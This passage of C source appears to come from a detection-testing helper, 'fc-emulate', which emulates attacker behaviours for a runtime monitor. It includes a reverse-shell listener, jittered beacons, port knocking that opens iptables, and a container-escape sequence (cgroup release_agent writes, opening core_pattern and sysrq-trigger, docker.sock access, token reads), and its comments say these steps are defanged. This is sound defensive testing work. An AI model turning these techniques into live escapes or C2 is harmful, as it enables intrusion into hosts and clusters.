      for (int k = 0; k < len; k += 2) sum += (uint32_t)((pkt[k] << 8) | (k + 1 < len ? pkt[k + 1] : 0));
      while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
      h->checksum = htons((uint16_t)~sum);
      int s = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP);
      snprintf(extra, sizeof extra, ",\"fd\":%d", s);
      J("icmp_socket", "socket", "AF_INET, SOCK_RAW|SOCK_CLOEXEC, IPPROTO_ICMP", s, extra);
      if (s < 0) die("icmp_socket", "%s (needs CAP_NET_RAW)", strerror(errno));
      ssize_t r = sendto(s, pkt, (size_t)len, 0, (struct sockaddr *)&a, sizeof a);
      snprintf(args, sizeof args, "icmp echo to %s, magic 0x%04x, %d bytes", icmp, magic, len);
      J("magic_sent", "sendto", args, r, "");
      close(s);
    } else {
      die("args", "give --udp ADDR:PORT or --icmp ADDR");
    }
  }
  return 0;
}

static int connect_from(const char *to, const char *bindaddr, long timeout_ms, char *local, size_t lcap) {
  struct sockaddr_in a = addr_port(to);
  int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (s < 0) return -1;
  if (bindaddr) {
    struct sockaddr_in b;
    memset(&b, 0, sizeof b);
    b.sin_family = AF_INET;
    b.sin_addr = addr_only(bindaddr);
    int r = bind(s, (struct sockaddr *)&b, sizeof b);
    char args[100];
    snprintf(args, sizeof args, "%s:0", bindaddr);
    J("bind_source", "bind", args, r, "");
  }
  int fl = fcntl(s, F_GETFL);
  fcntl(s, F_SETFL, fl | O_NONBLOCK);
  int r = connect(s, (struct sockaddr *)&a, sizeof a);
  int err = errno;
  if (r < 0 && err == EINPROGRESS) {
    if (wait_fd(s, POLLOUT, timeout_ms) > 0) {
      socklen_t el = sizeof err;
      getsockopt(s, SOL_SOCKET, SO_ERROR, &err, &el);
      r = err ? -1 : 0;
    } else {
      err = ETIMEDOUT;
    }
  }
  fcntl(s, F_SETFL, fl);
  local[0] = 0;
  if (r == 0) {
    struct sockaddr_in l;
    socklen_t ll = sizeof l;
    if (getsockname(s, (struct sockaddr *)&l, &ll) == 0) sa_text(&l, local, lcap);
    return s;
  }
  close(s);
  errno = err;
  return -1;
}

static int cmd_client(int argc, char **argv) {
  const char *to = need(argc, argv, "--to");
  const char *bindaddr = opt(argc, argv, "--bind", NULL);
  long wait_s = opt_long(argc, argv, "--wait-s", 30);
  char local[64], extra[600];
  int s = connect_from(to, bindaddr, 5000, local, sizeof local);
  snprintf(extra, sizeof extra, ",\"local\":\"%s\",\"fd\":%d", local, s);
  J("connected", "connect", to, s, extra);
  if (s < 0) die("connect", "%s: %s", to, strerror(errno));
  converse(s, to, opt(argc, argv, "--expect", NULL), opt(argc, argv, "--send", NULL), opt(argc, argv, "--release", NULL), wait_s);
  journal("closed", "close", to, 0, 0, "");
  return 0;
}

/* TCP listeners: reverse-shell catcher (--expect), beacon sink, scrape targets (--respond). */
static int cmd_serve(int argc, char **argv) {
  const char *one = opt(argc, argv, "--listen", NULL);
  const char *many = opt(argc, argv, "--listen-many", NULL);
  long accept_n = opt_long(argc, argv, "--accept", 0);
  const char *expect = opt(argc, argv, "--expect", NULL);
  const char *send_ = opt(argc, argv, "--send", NULL);
  const char *respond = opt(argc, argv, "--respond", NULL);
  const char *release = opt(argc, argv, "--release", NULL);
  long wait_s = opt_long(argc, argv, "--wait-s", 30);
  struct pollfd pf[MAX_PORTS];
  int nl = 0;
  char host[64];
  int ports[MAX_PORTS];
  int np = 0;
  if (many) {
    const char *colon = strchr(many, ':');
    if (!colon) die("args", "--listen-many ADDR:P1,P2,...");
    snprintf(host, sizeof host, "%.*s", (int)(colon - many), many);
    np = parse_ports(colon + 1, ports);
  } else if (one) {
    const char *colon = strrchr(one, ':');
    if (!colon) die("args", "--listen ADDR:PORT");
    snprintf(host, sizeof host, "%.*s", (int)(colon - one), one);
    ports[0] = atoi(colon + 1);
    np = 1;
  } else {
    die("args", "give --listen or --listen-many");
  }
  for (int i = 0; i < np; i++) {
    int port = 0;
    int ls = tcp_listen(host, ports[i], ports[i], 64, &port);
    if (ls < 0) die("bind", "%s:%d: %s", host, ports[i], strerror(errno));
    pf[nl].fd = ls;
    pf[nl].events = POLLIN;
    nl++;
  }
  long accepted = 0;
  long long end = mono_ms() + wait_s * 1000;
  while (!stop_requested && mono_ms() < end) {
    if (release && access(release, F_OK) == 0) break;
    if (accept_n > 0 && accepted >= accept_n && !expect) break;
    int r = poll(pf, (nfds_t)nl, 50);
    if (r <= 0) continue;
    for (int i = 0; i < nl; i++) {
      if (!(pf[i].revents & POLLIN)) continue;
      struct sockaddr_in peer;
      socklen_t pl = sizeof peer;
      int c = accept4(pf[i].fd, (struct sockaddr *)&peer, &pl, SOCK_CLOEXEC);
      char pt[64], extra[200], got[512];
      snprintf(extra, sizeof extra, ",\"peer\":\"%s\",\"port\":%d,\"n\":%ld", c >= 0 ? sa_text(&peer, pt, sizeof pt) : "", ports[i], accepted + 1);
      J("accepted", "accept4", "listener", c, extra);
      if (c < 0) continue;
      accepted++;
      if (expect) {
        converse(c, "connection", expect, send_, release, wait_s);
        for (int k = 0; k < nl; k++) close(pf[k].fd);
        return 0;
      }
      read_expect(c, NULL, got, sizeof got, 200);
      if (respond) {
        char line[256];
        int len = snprintf(line, sizeof line, "%s\n", respond);
        ssize_t w = write(c, line, (size_t)len);
        (void)w;
      }
      close(c);
    }
  }
  char extra[64];
  snprintf(extra, sizeof extra, ",\"accepted\":%ld", accepted);
  journal("served", NULL, NULL, 0, 0, extra);
  for (int k = 0; k < nl; k++) close(pf[k].fd);
  return 0;
}

static unsigned long rnd_state = 0;
static double rnd(void) {
  rnd_state = rnd_state * 6364136223846793005UL + 1442695040888963407UL;
  return (double)(rnd_state >> 11) / (double)(1UL << 53);
}

static int cmd_beacon(int argc, char **argv) {
  const char *to = need(argc, argv, "--to");
  const char *bindaddr = opt(argc, argv, "--bind", NULL);
  long count = opt_long(argc, argv, "--count", 10);
  long interval = opt_long(argc, argv, "--interval-ms", 1000);
  long jitter = opt_long(argc, argv, "--jitter", 0);
  rnd_state = (unsigned long)now_ns() ^ (unsigned long)getpid();
  for (long i = 0; i < count && !stop_requested; i++) {
    char local[64], extra[160];
    int s = connect_from(to, bindaddr, 3000, local, sizeof local);
    snprintf(extra, sizeof extra, ",\"n\":%ld,\"local\":\"%s\"", i + 1, local);
    J("beacon", "connect", to, s, extra);
    if (s >= 0) {
      char line[96];
      int len = snprintf(line, sizeof line, "beacon %s %ld\n", run_id, i + 1);
      ssize_t w = write(s, line, (size_t)len);
      (void)w;
      close(s);
    }
    if (i + 1 < count) {
      double f = 1.0 + ((rnd() * 2.0) - 1.0) * (double)jitter / 100.0;
      sleep_ms((long)((double)interval * f));
    }
  }
  return 0;
}

static int cmd_scrape(int argc, char **argv) {
  const char *targets = need(argc, argv, "--targets");
  long rounds = opt_long(argc, argv, "--rounds", 3);
  long interval = opt_long(argc, argv, "--interval-ms", 1000);
  const char *colon = strchr(targets, ':');
  if (!colon) die("args", "--targets ADDR:P1,P2,...");
  char host[64];
  snprintf(host, sizeof host, "%.*s", (int)(colon - targets), targets);
  int ports[MAX_PORTS];
  int np = parse_ports(colon + 1, ports);
  long long start = mono_ms();
  for (long r = 0; r < rounds && !stop_requested; r++) {
    int ok = 0;
    for (int i = 0; i < np; i++) {
      char to[96], local[64], got[256];
      snprintf(to, sizeof to, "%s:%d", host, ports[i]);
      int s = connect_from(to, NULL, 2000, local, sizeof local);
      if (s < 0) continue;
      const char *req = "GET /metrics HTTP/1.0\r\n\r\n";
      ssize_t w = write(s, req, strlen(req));
      (void)w;
      shutdown(s, SHUT_WR);
      if (read_expect(s, NULL, got, sizeof got, 1000) > 0) ok++;
      close(s);
    }
    char extra[96];
    snprintf(extra, sizeof extra, ",\"round\":%ld,\"targets\":%d,\"answered\":%d", r + 1, np, ok);
    journal("scrape_round", "connect", host, ok, 0, extra);
    long long next = start + (r + 1) * interval;
    if (r + 1 < rounds) sleep_ms((long)(next - mono_ms()));
  }
  return 0;
}

static int run_child(const char *path, char *const *cargv, const char *stdin_file, const char *label) {
  char args[600];
  size_t off = 0;
  args[0] = 0;
  for (int i = 0; cargv[i] && off < sizeof args - 2; i++) off += (size_t)snprintf(args + off, sizeof args - off, "%s%s", i ? " " : "", cargv[i]);
  pid_t pid = fork();
  if (pid == 0) {
    if (stdin_file) {
      int in = open(stdin_file, O_RDONLY);
      if (in < 0 || dup2(in, 0) < 0) _exit(126);
    }
    execve(path, cargv, environ);
    _exit(127);
  }
  int status = 0;
  if (pid > 0) {
    long long end = mono_ms() + 15000;
    while (waitpid(pid, &status, WNOHANG) == 0) {
      if (mono_ms() > end) {
        kill(pid, SIGKILL);
        waitpid(pid, &status, 0);
        break;
      }
      sleep_ms(10);
    }
  }
  char extra[96];
  int code = pid > 0 && WIFEXITED(status) ? WEXITSTATUS(status) : -1;
  snprintf(extra, sizeof extra, ",\"child\":%d,\"exit\":%d", (int)pid, code);
  journal(label, "execve", args, pid < 0 ? -1 : code == 0 ? 0 : -1, pid < 0 ? errno : 0, extra);
  return code;
}

static int cmd_knockd(int argc, char **argv) {
  const char *listen_addr = need(argc, argv, "--listen");
  int ports[MAX_PORTS];
  int np = parse_ports(need(argc, argv, "--ports"), ports);
  int service = (int)opt_long(argc, argv, "--service-port", 8022);
  const char *iptables = opt(argc, argv, "--iptables", "/usr/sbin/iptables");
  long wait_s = opt_long(argc, argv, "--wait-s", 30);
  struct in_addr dst = addr_only(listen_addr);
  int fd = raw_socket_j(AF_INET, SOCK_RAW, IPPROTO_TCP, "AF_INET, SOCK_RAW, IPPROTO_TCP");
  char extra[256], args[200];
  struct prog p;
  struct sock_fprog fp = syn_filter(&p, ntohl(dst.s_addr), ports, np);
  attach(fd, &fp, "tcp syn to the knock ports");
  int drained = drain(fd);
  snprintf(extra, sizeof extra, ",\"fd\":%d,\"ino\":%lu,\"socket\":\"inet-tcp\",\"drained\":%d", fd, sock_inode(fd), drained);
  journal("armed", NULL, NULL, 0, 0, extra);

  /* The sequence, in order, from one source. */
  char src[64] = "";
  int pos = 0;
  long long end = mono_ms() + wait_s * 1000;
  while (pos < np && mono_ms() < end && !stop_requested) {
    if (wait_fd(fd, POLLIN, (long)(end - mono_ms())) <= 0) continue;
    unsigned char b[256];
    ssize_t n = recv(fd, b, sizeof b, 0);
    if (n < 24) continue;
    int ihl = (b[0] & 0xf) * 4;
    if (n < ihl + 4) continue;
    int dport = (b[ihl + 2] << 8) | b[ihl + 3];
    char s[64];
    packet_source(b, n, 0, s, sizeof s);
    if (pos > 0 && strcmp(s, src) != 0) continue;
    snprintf(extra, sizeof extra, ",\"source\":\"%s\",\"port\":%d,\"expected\":%d", s, dport, ports[pos]);
    journal("knock", "recvfrom", "tcp syn", n, 0, extra);
    if (dport == ports[pos]) {
      snprintf(src, sizeof src, "%s", s);
      pos++;
    } else {
      pos = dport == ports[0] ? 1 : 0;
      snprintf(src, sizeof src, "%s", s);
    }
  }
  if (pos < np) die("knock", "knock sequence not completed within %ld s", wait_s);
  close(fd);
  snprintf(extra, sizeof extra, ",\"source\":\"%s\"", src);
  journal("trigger", NULL, "knock sequence complete", 0, 0, extra);

  char srcnet[80], dport[16];
  snprintf(srcnet, sizeof srcnet, "%s/32", src);
  snprintf(dport, sizeof dport, "%d", service);
  char *add[] = {"iptables", "-I", "INPUT", "-s", srcnet, "-p", "tcp", "--dport", dport, "-j", "ACCEPT", NULL};
  if (run_child(iptables, add, NULL, "firewall_open") != 0) die("firewall_open", "iptables -I failed");

  int port = 0;
  int ls = tcp_listen(listen_addr, service, service, 4, &port);
  if (ls < 0) die("bind", "%s:%d: %s", listen_addr, service, strerror(errno));
  snprintf(args, sizeof args, "%s:%d", listen_addr, service);
  int rc = 0;
  if (wait_fd(ls, POLLIN, wait_s * 1000) > 0) {
    struct sockaddr_in peer;
    socklen_t pl = sizeof peer;
    int c = accept4(ls, (struct sockaddr *)&peer, &pl, SOCK_CLOEXEC);
    char pt[64], got[256];
    snprintf(extra, sizeof extra, ",\"peer\":\"%s\",\"fd\":%d,\"ino\":%lu", c >= 0 ? sa_text(&peer, pt, sizeof pt) : "", c, c >= 0 ? sock_inode(c) : 0);
    J("accepted", "accept4", args, c, extra);
    if (c >= 0) {
      read_expect(c, "\n", got, sizeof got, 2000);
      close(c);
    }
  } else {
    note("accept", "no connection within %ld s", wait_s);
    rc = 3;
  }
  close(ls);
  char *del[] = {"iptables", "-D", "INPUT", "-s", srcnet, "-p", "tcp", "--dport", dport, "-j", "ACCEPT", NULL};
  if (run_child(iptables, del, NULL, "firewall_close") != 0) rc = 4;
  return rc;
}

static int cmd_knock(int argc, char **argv) {
  const char *to = need(argc, argv, "--to");
  const char *bindaddr = opt(argc, argv, "--bind", NULL);
  int ports[MAX_PORTS];
  int np = parse_ports(need(argc, argv, "--ports"), ports);
  for (int i = 0; i < np && !stop_requested; i++) {
    char target[96], local[64], extra[128];
    snprintf(target, sizeof target, "%s:%d", to, ports[i]);
    int s = connect_from(target, bindaddr, 1000, local, sizeof local);
    int err = errno;
    snprintf(extra, sizeof extra, ",\"port\":%d,\"closed\":%s", ports[i], s < 0 && err == ECONNREFUSED ? "true" : "false");
    errno = err;
    J("knock", "connect", target, s, extra);
    if (s >= 0) close(s);
    sleep_ms(100);
  }
  return 0;
}

static int cmd_unix_serve(int argc, char **argv) {
  const char *path = need(argc, argv, "--path");
  const char *release = opt(argc, argv, "--release", NULL);
  long wait_s = opt_long(argc, argv, "--wait-s", 30);
  struct stat st;
  if (lstat(path, &st) == 0) {
    note("exists", "%s exists: not served (the attacker connects to it without sending anything)", path);
    return 0;
  }
  int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  struct sockaddr_un a;
  memset(&a, 0, sizeof a);
  a.sun_family = AF_UNIX;
  snprintf(a.sun_path, sizeof a.sun_path, "%s", path);
  int r = bind(s, (struct sockaddr *)&a, sizeof a);
  J("bound", "bind", path, r, "");
  if (r < 0) die("bind", "%s: %s", path, strerror(errno));
  r = listen(s, 4);
  char extra[96];
  snprintf(extra, sizeof extra, ",\"fd\":%d,\"ino\":%lu", s, sock_inode(s));
  J("listening", "listen", path, r, extra);
  long long end = mono_ms() + wait_s * 1000;
  while (!stop_requested && mono_ms() < end) {
    if (release && access(release, F_OK) == 0) break;
    if (wait_fd(s, POLLIN, 50) > 0) {
      int c = accept4(s, NULL, NULL, SOCK_CLOEXEC);
      J("accepted", "accept4", path, c, "");
      if (c >= 0) close(c);
    }
  }
  close(s);
  r = unlink(path);
  J("removed", "unlink", path, r, "");
  return 0;
}

static int cmd_escape(int argc, char **argv) {
  const char *cg = need(argc, argv, "--cgroup-dir");
  const char *rtsock = opt(argc, argv, "--runtime-socket", "/var/run/docker.sock");
  const char *token = opt(argc, argv, "--token", NULL);
  const char *api = opt(argc, argv, "--api", NULL);
  char path[600], args[700], extra[200];

  /* 1. namespaces, each attempt in a child so this process keeps its own. */
  const struct {
    int flags;
    const char *text;
  } tries[] = {{CLONE_NEWUSER | CLONE_NEWNS, "CLONE_NEWUSER|CLONE_NEWNS"}, {CLONE_NEWNS, "CLONE_NEWNS"}};
  for (size_t i = 0; i < sizeof tries / sizeof tries[0]; i++) {
    pid_t pid = fork();
    if (pid == 0) {
      int r = unshare(tries[i].flags);
      J("unshare", "unshare", tries[i].text, r, "");
      _exit(r == 0 ? 0 : 1);
    }
    if (pid > 0) waitpid(pid, NULL, 0);
  }

  /* 2. the classic cgroup v1 release_agent escape. */
  int r = mkdir(cg, 0755);
  J("cgroup_dir", "mkdir", cg, r, "");
  r = mount("cgroup", cg, "cgroup", 0, "rdma");
  snprintf(args, sizeof args, "cgroup, %s, cgroup, 0, rdma", cg);
  J("mount_cgroup", "mount", args, r, "");
  if (r == 0) {
    /* Privileged: never touch a real hierarchy's release_agent. */
    int u = umount2(cg, MNT_DETACH);
    J("unmount_cgroup", "umount2", cg, u, ",\"note\":\"mount succeeded (privileged): undone at once; the writes below go to plain files\"");
  }
  snprintf(path, sizeof path, "%s/x", cg);
  r = mkdir(path, 0755);
  J("cgroup_child", "mkdir", path, r, "");
  const char *files[][2] = {{"x/notify_on_release", "1\n"}, {"release_agent", NULL}};
  for (int i = 0; i < 2; i++) {
    snprintf(path, sizeof path, "%s/%s", cg, files[i][0]);
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    snprintf(args, sizeof args, "%s, O_WRONLY|O_CREAT|O_TRUNC", path);
    J("release_agent_write", "openat", args, fd, "");
    if (fd >= 0) {
      char content[128];
      if (files[i][1]) snprintf(content, sizeof content, "%s", files[i][1]);
      else snprintf(content, sizeof content, "/nonexistent/fc-emulate-%s/cmd\n", run_id);
      ssize_t w = write(fd, content, strlen(content));
      (void)w;
      close(fd);
    }
  }
  /* 3. real kernel files: opened for writing, never written. */
  const char *kernel_files[][2] = {
      {"/proc/sys/kernel/core_pattern", "core_pattern_write"},
      {"/sys/fs/cgroup/release_agent", "host_release_agent_write"},
      {"/proc/sysrq-trigger", "sysrq_write"},
      {"/proc/sys/kernel/modprobe", "proc_sys_write"},
  };
  for (size_t i = 0; i < sizeof kernel_files / sizeof kernel_files[0]; i++) {
    int fd = open(kernel_files[i][0], O_WRONLY | O_CLOEXEC);
    snprintf(args, sizeof args, "%s, O_WRONLY (opened only, nothing written)", kernel_files[i][0]);
    J(kernel_files[i][1], "openat", args, fd, "");
    if (fd >= 0) close(fd);
  }
  /* insmod: finit_module on an invalid fd never loads anything (EPERM without CAP_SYS_MODULE,
   * EBADF with it). */
  long km = syscall(SYS_finit_module, -1, "", 0);
  J("kernel_module_load", "finit_module", "-1, \"\", 0", km, "");
  /* 4. the container-runtime socket: connect, send nothing. */
  int us = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  struct sockaddr_un ua;
  memset(&ua, 0, sizeof ua);
  ua.sun_family = AF_UNIX;
  snprintf(ua.sun_path, sizeof ua.sun_path, "%s", rtsock);
  r = connect(us, (struct sockaddr *)&ua, sizeof ua);
  J("runtime_socket_connect", "connect", rtsock, r, "");
  close(us);
  /* 5. a service-account token read, then the API server. */
  if (token) {
    int fd = open(token, O_RDONLY | O_CLOEXEC);
    char tb[512];
    ssize_t n = fd >= 0 ? read(fd, tb, sizeof tb) : -1;
    snprintf(extra, sizeof extra, ",\"bytes\":%zd", n);
    J("token_read", "openat", token, fd, extra);
    if (fd >= 0) close(fd);
  }
  if (api) {
    char local[64];
    int s = connect_from(api, NULL, 2000, local, sizeof local);
    snprintf(extra, sizeof extra, ",\"local\":\"%s\"", local);
    J("api_connect", "connect", api, s, extra);
    if (s >= 0) close(s);
  }
  return 0;
}

static int cmd_capture(int argc, char **argv) {
  const char *ifname = opt(argc, argv, "--ifname", "lo");
  int port = (int)opt_long(argc, argv, "--udp-port", 9);
  long count = opt_long(argc, argv, "--count", 1);
  long wait_s = opt_long(argc, argv, "--wait-s", 10);
  char extra[200], args[160];
  int fd = packet_on(ifname);
  struct prog p;
  struct sock_fprog fp = reject_all(&p);
  attach(fd, &fp, "reject all (libpcap's first attach)");
  int drained = drain(fd);
  fp = udp_filter(&p, 14, port, -1);
  snprintf(args, sizeof args, "udp port %d", port);
  attach(fd, &fp, args);
  snprintf(extra, sizeof extra, ",\"fd\":%d,\"ino\":%lu,\"socket\":\"packet\",\"drained\":%d", fd, sock_inode(fd), drained);
  journal("armed", NULL, NULL, 0, 0, extra);
  long got = 0;
  long long end = mono_ms() + wait_s * 1000;
  while (got < count && mono_ms() < end && !stop_requested) {
    if (wait_fd(fd, POLLIN, (long)(end - mono_ms())) <= 0) continue;
    unsigned char b[2048];
    ssize_t n = recv(fd, b, sizeof b, 0);
    if (n <= 0) continue;
    char src[64];
    packet_source(b, n, 14, src, sizeof src);
    got++;
    snprintf(extra, sizeof extra, ",\"source\":\"%s\",\"bytes\":%zd,\"n\":%ld", src, n, got);
    journal("captured", "recvfrom", "packet", n, 0, extra);
  }
  close(fd);
  snprintf(extra, sizeof extra, ",\"captured\":%ld", got);
  journal("done", NULL, NULL, 0, 0, extra);
  return got >= count ? 0 : 3;
}

static uint16_t csum16(const unsigned char *b, int len) {
  uint32_t sum = 0;
  for (int k = 0; k < len; k += 2) sum += (uint32_t)((b[k] << 8) | (k + 1 < len ? b[k + 1] : 0));
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return (uint16_t)~sum;
}

static int cmd_dhcp(int argc, char **argv) {
  const char *ifname = need(argc, argv, "--ifname");
  long wait_s = opt_long(argc, argv, "--wait-s", 2);
  char extra[200];
  int fd = packet_on(ifname);
  int ifindex = (int)if_nametoindex(ifname);
  struct sockaddr_ll ll;
  memset(&ll, 0, sizeof ll);
  ll.sll_family = AF_PACKET;
  ll.sll_protocol = htons(ETH_P_ALL);
  ll.sll_ifindex = ifindex;
  struct prog p;
  struct sock_fprog fp = udp_filter(&p, 14, 68, -1);
  attach(fd, &fp, "udp dst port 68 (bootpc)");
  snprintf(extra, sizeof extra, ",\"fd\":%d,\"ino\":%lu,\"socket\":\"packet\",\"drained\":%d", fd, sock_inode(fd), drain(fd));
  journal("armed", NULL, NULL, 0, 0, extra);

  struct ifreq ifr;
  memset(&ifr, 0, sizeof ifr);
  snprintf(ifr.ifr_name, sizeof ifr.ifr_name, "%s", ifname);
  unsigned char mac[6] = {0x02, 0, 0, 0, 0, 1};
  if (ioctl(fd, SIOCGIFHWADDR, &ifr) == 0) memcpy(mac, ifr.ifr_hwaddr.sa_data, 6);
  /* Ethernet + IPv4 + UDP + BOOTP DISCOVER (broadcast on this interface only). */
  unsigned char f[14 + 20 + 8 + 244];
  memset(f, 0, sizeof f);
  memset(f, 0xff, 6);
  memcpy(f + 6, mac, 6);
  f[12] = 0x08;
  unsigned char *ip = f + 14, *udp = ip + 20, *bootp = udp + 8;
  int blen = 244;
  ip[0] = 0x45;
  int tot = 20 + 8 + blen;
  ip[2] = (unsigned char)(tot >> 8);
  ip[3] = (unsigned char)tot;
  ip[8] = 64;
  ip[9] = IPPROTO_UDP;
  memset(ip + 16, 0xff, 4);
  uint16_t ipsum = csum16(ip, 20);
  ip[10] = (unsigned char)(ipsum >> 8);
  ip[11] = (unsigned char)ipsum;
  udp[1] = 68;
  udp[3] = 67;
  udp[4] = (unsigned char)((8 + blen) >> 8);
  udp[5] = (unsigned char)(8 + blen);
  bootp[0] = 1; /* BOOTREQUEST */
  bootp[1] = 1; /* ethernet */
  bootp[2] = 6;
  uint32_t xid = (uint32_t)now_ns();
  memcpy(bootp + 4, &xid, 4);
  bootp[10] = 0x80; /* broadcast flag */
  memcpy(bootp + 28, mac, 6);
  bootp[236] = 99, bootp[237] = 130, bootp[238] = 83, bootp[239] = 99; /* magic cookie */
  bootp[240] = 53, bootp[241] = 1, bootp[242] = 1;                     /* DHCPDISCOVER */
  bootp[243] = 255;
  struct sockaddr_ll to = ll;
  to.sll_halen = 6;
  memset(to.sll_addr, 0xff, 6);
  ssize_t w = sendto(fd, f, sizeof f, 0, (struct sockaddr *)&to, sizeof to);
  J("discover", "sendto", "DHCPDISCOVER broadcast on the interface", w, "");
  long long end = mono_ms() + wait_s * 1000;
  int offers = 0;
  while (mono_ms() < end && !stop_requested) {
    if (wait_fd(fd, POLLIN, (long)(end - mono_ms())) <= 0) continue;
    unsigned char b[1500];
    if (recv(fd, b, sizeof b, 0) > 0) offers++;
  }
  snprintf(extra, sizeof extra, ",\"offers\":%d", offers);
  journal("done", NULL, NULL, 0, 0, extra);
  close(fd);
  return 0;
}

static int cmd_fwsync(int argc, char **argv) {
  const char *restore = need(argc, argv, "--iptables-restore");
  const char *rules = need(argc, argv, "--rules");
  long rounds = opt_long(argc, argv, "--rounds", 2);
  long interval = opt_long(argc, argv, "--interval-ms", 500);
  int rc = 0;
  for (long i = 0; i < rounds && !stop_requested; i++) {
    char *cargv[] = {"iptables-restore", "--noflush", NULL};
    if (run_child(restore, cargv, rules, "firewall_sync") != 0) rc = 4;
    if (i + 1 < rounds) sleep_ms(interval);
  }
  return rc;
}

static void usage(void) {
  dprintf(1,
          "fc-emulate " VERSION ": the native helper of `falco-companion emulate`\n"
          "usage: fc-emulate [--journal FILE] [--run ID] [--role NAME] [--netns PATH] [--die-with-parent 1] <command> [options]\n"
          "commands: idle drop implant magic client serve beacon scrape knockd knock unix-serve escape capture dhcp fwsync version\n"
          "Each step is printed as one JSON line to the journal (stdout when --journal is not given).\n");
}

int main(int argc, char **argv) {
  int i = 1;
  const char *journal_path = NULL, *netns = NULL;
  int die_with_parent = 0;
  while (i < argc - 1 && strncmp(argv[i], "--", 2) == 0) {
    if (global_argc < 14) {
      global_argv[global_argc++] = argv[i];
      global_argv[global_argc++] = argv[i + 1];
    }
    if (strcmp(argv[i], "--journal") == 0) journal_path = argv[i + 1];
    else if (strcmp(argv[i], "--run") == 0) run_id = argv[i + 1];
    else if (strcmp(argv[i], "--role") == 0) role = argv[i + 1];
    else if (strcmp(argv[i], "--netns") == 0) netns = argv[i + 1];
    else if (strcmp(argv[i], "--die-with-parent") == 0) die_with_parent = strcmp(argv[i + 1], "0") != 0;
    else {
      dprintf(2, "fc-emulate: unknown option %s\n", argv[i]);
      return 2;
    }
    i += 2;
  }
  /* The journal never sits on 0..2 (the shell's stdio) and is closed on exec. */
  if (journal_path) jfd = open(journal_path, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644);
  else jfd = fcntl(1, F_DUPFD_CLOEXEC, 3);
  if (jfd < 0) {
    dprintf(2, "fc-emulate: cannot open the journal: %s\n", strerror(errno));
    return 2;
  }
  if (i >= argc || strcmp(argv[i], "help") == 0 || strcmp(argv[i], "--help") == 0) {
    usage();
    return i >= argc ? 2 : 0;
  }
  struct sigaction sa;
  memset(&sa, 0, sizeof sa);
  sa.sa_handler = on_term;
  sigaction(SIGTERM, &sa, NULL);
  sigaction(SIGINT, &sa, NULL);
  signal(SIGPIPE, SIG_IGN);
  /* Die with the parent (the runner, when it started us directly): nothing outlives a killed
   * run. Not for `docker exec`: the exec'd process's parent exits at once. */
  if (die_with_parent) prctl(PR_SET_PDEATHSIG, SIGTERM, 0, 0, 0);

  if (netns) {
    int nfd = open(netns, O_RDONLY | O_CLOEXEC);
    int r = nfd >= 0 ? setns(nfd, CLONE_NEWNET) : -1;
    J("enter_netns", "setns", netns, r, "");
    if (r < 0) die("enter_netns", "setns %s: %s", netns, strerror(errno));
    close(nfd);
  }
  const char *cmd = argv[i];
  int cargc = argc - i - 1;
  char **cargv = argv + i + 1;
  if (strcmp(cmd, "version") == 0) {
    dprintf(1, "fc-emulate " VERSION "\n");
    return 0;
  }
  if (strcmp(cmd, "idle") == 0) return cmd_idle(cargc, cargv);
  if (strcmp(cmd, "drop") == 0) return cmd_drop(cargc, cargv);
  if (strcmp(cmd, "implant") == 0) return cmd_implant(cargc, cargv);
  if (strcmp(cmd, "magic") == 0) return cmd_magic(cargc, cargv);
  if (strcmp(cmd, "client") == 0) return cmd_client(cargc, cargv);
  if (strcmp(cmd, "serve") == 0) return cmd_serve(cargc, cargv);
  if (strcmp(cmd, "beacon") == 0) return cmd_beacon(cargc, cargv);
  if (strcmp(cmd, "scrape") == 0) return cmd_scrape(cargc, cargv);
  if (strcmp(cmd, "knockd") == 0) return cmd_knockd(cargc, cargv);
  if (strcmp(cmd, "knock") == 0) return cmd_knock(cargc, cargv);
  if (strcmp(cmd, "unix-serve") == 0) return cmd_unix_serve(cargc, cargv);
  if (strcmp(cmd, "escape") == 0) return cmd_escape(cargc, cargv);
  if (strcmp(cmd, "capture") == 0) return cmd_capture(cargc, cargv);
  if (strcmp(cmd, "dhcp") == 0) return cmd_dhcp(cargc, cargv);
  if (strcmp(cmd, "fwsync") == 0) return cmd_fwsync(cargc, cargv);
  dprintf(2, "fc-emulate: unknown command %s\n", cmd);
  usage();
  return 2;
}
